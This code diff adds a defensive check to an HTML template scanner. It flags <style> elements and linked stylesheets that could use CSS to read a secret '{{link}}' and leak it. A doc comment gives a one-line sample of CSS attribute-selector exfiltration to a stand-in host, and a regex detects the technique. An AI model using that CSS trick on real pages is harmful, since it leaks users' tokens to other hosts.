@@ -74,6 +74,16 @@ const OWN_WORD = new RegExp(`^<?${escapeRegExp(STAND_IN)}>?[.,;:!?]?$`);
 
 const RULE = '{{link}} may stand only as the whole href of an <a> element or as text of its own';
 
+/**
+ * CSS can read an href without holding it: `a[href*="k3"] { background: url(https://x/k3) }`, one
+ * rule per few characters, sends the token piece by piece to another host. So beside the link,
+ * a <style> element may not use attribute selectors, escapes (which could spell either) or
+ * @import, and no stylesheet is linked in.
+ */
+const READS_ATTRIBUTES = /[[\\]|@import/i;
+const CSS_RULE =
+  'beside {{link}}, a <style> element may not use attribute selectors ([...]), backslash escapes or @import, and no <link> element may load a stylesheet: CSS could read the link and send it to another host';
+
 /** Other variables as their samples, the link as the stand-in. */
 function rendered(source: string, samples: Record<string, unknown>, escaping: 'html' | 'none'): string {
   return renderTemplate(source, { ...samples, [LINK_VARIABLE]: STAND_IN }, escaping).output;
@@ -137,6 +147,7 @@ function scanHtml(html: string): HtmlScan | undefined {
   const open: string[] = [];
   let hrefs = 0;
   let text = '';
+  let css = '';
   const inNotText = () => open.some((name) => NOT_TEXT.has(name));
   const parser = new Parser(
     {
@@ -153,15 +164,19 @@ function scanHtml(html: string): HtmlScan | undefined {
           if (name === 'a' && attr === 'href' && value === STAND_IN && !inNotText()) hrefs++;
           else faults.push(`${RULE}: found in the ${attr} attribute of <${name}>${value === STAND_IN ? '' : ' joined to other text'}`);
         }
+        if (name === 'link') faults.push(CSS_RULE);
         if (name === 'a' && attribs.href === STAND_IN && attribs.ping !== undefined) {
           faults.push(`${RULE}: an <a> carrying it may not have a ping attribute (it reports the link to another host)`);
         }
       },
       onclosetag: (name) => {
+        if (name === 'style' && READS_ATTRIBUTES.test(css)) faults.push(CSS_RULE);
+        if (name === 'style') css = '';
         open.pop();
         if (!INLINE.has(name)) text += ' ';
       },
       ontext: (data) => {
+        if (open[open.length - 1] === 'style') css += data;
         if (!inNotText()) text += data;
         else if (data.includes(STAND_IN)) faults.push(`${RULE}: found inside <${open.find((n) => NOT_TEXT.has(n))}>`);
       },
